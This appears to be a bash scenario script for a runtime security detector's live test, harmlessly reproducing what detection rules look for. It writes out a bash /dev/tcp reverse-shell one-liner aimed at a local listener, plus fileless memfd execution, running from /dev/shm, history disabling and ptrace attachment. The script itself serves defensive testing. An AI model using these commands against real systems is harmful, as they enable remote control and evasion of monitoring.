#!/bin/bash
# Attack behaviour for the live test (kestrel-rt/tests/live.rs): each scenario is what a
# built-in rule looks for, done harmlessly, leaving nothing behind. Needs bash and python3.
set -u
DIR=$(mktemp -d /tmp/kestrel-live.XXXXXX)
trap 'rm -rf "$DIR"' EXIT
# A local, non-loopback address, so the connection is not to 127.0.0.0/8.
IP=${KESTREL_SCENARIO_IP:-$(hostname -I | awk '{print $1}')}

# 1. Reverse shell: bash connects out, then starts an interactive shell reading the connection.
python3 - "$DIR/ready" <<'PY' &
import os, socket, sys
s = socket.socket(); s.bind(("0.0.0.0", 0)); s.listen(1); s.settimeout(20)
with open(sys.argv[1] + ".tmp", "w") as ready:
    ready.write(str(s.getsockname()[1]))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
# Shutting down its side without a word: the FIN puts the shell's socket in CLOSE_WAIT (a
# `disconnect_received` event), then the shell reads end of file and exits. (An "exit" sent
# first could let the shell close first; a close() with the shell's prompt still unread
# would send a reset instead of a FIN: either way no such event.)
c, _ = s.accept(); c.shutdown(socket.SHUT_WR)
while c.recv(4096):
    pass
c.close()
PY
LISTENER=$!
for _ in $(seq 600); do [ -e "$DIR/ready" ] && break; sleep 0.05; done
[ -e "$DIR/ready" ] || { echo "scenarios: the listener did not start" >&2; exit 1; }
PORT=$(cat "$DIR/ready")
bash -c "exec 3<>/dev/tcp/$IP/$PORT; bash -i <&3 >&3 2>&3" 2>/dev/null
wait $LISTENER

# 2. A program run from /dev/shm.
cp /bin/true /dev/shm/kestrel-live-true && /dev/shm/kestrel-live-true
rm -f /dev/shm/kestrel-live-true

# 3. A program run from an anonymous memory file (memfd_create, then exec of /proc/self/fd/N).
python3 -c '
import os
fd = os.memfd_create("kestrel-live", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["kestrel-live-memfd"])
'
# 4. History disabled for a command (and a secret in the environment, never reported).
HISTFILE=/dev/null KESTREL_LIVE_SECRET=hunter2 /bin/true

# 5. A name lookup: a one-shot DNS server on 127.0.0.1:53 answers kestrel-live.example
#    with 192.0.2.53 to a client on a connected UDP socket (as libc's resolver does).
python3 - <<'PY'
import socket, struct, threading
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", 53))
def answer():
    query, peer = server.recvfrom(512)
    header = query[:2] + b"\x81\x80" + b"\x00\x01\x00\x01\x00\x00\x00\x00"
    question = query[12:]
    record = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 53])
    server.sendto(header + question + record, peer)
thread = threading.Thread(target=answer); thread.start()
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect(("127.0.0.1", 53))
name = b"".join(bytes([len(label)]) + label for label in b"kestrel-live.example".split(b".")) + b"\x00"
client.send(b"\xbe\xef\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01")
client.settimeout(5)
client.recv(512)
thread.join()
PY
# 6. A binary that deletes itself while it runs (perl unlinks its own executable, $^X).
cp /usr/bin/perl "$DIR/kestrel-live-selfdelete" && "$DIR/kestrel-live-selfdelete" -e 'unlink $^X or die "unlink: $!"'

# 7. A process that exits with status 3.
sh -c 'exit 3'

# 8. Every other kind of event: a file modified and renamed, credentials changed,
#    a process traced.
echo one > "$DIR/file" && echo two >> "$DIR/file" && mv "$DIR/file" "$DIR/file.moved"
python3 -c 'import os; os.setgid(65534); os.setuid(65534)'
python3 - <<'PY'
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
if libc.ptrace(PTRACE_ATTACH, child, None, None) == 0:
    os.waitpid(child, 0)
    libc.ptrace(PTRACE_DETACH, child, None, None)
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
PY
exit 0
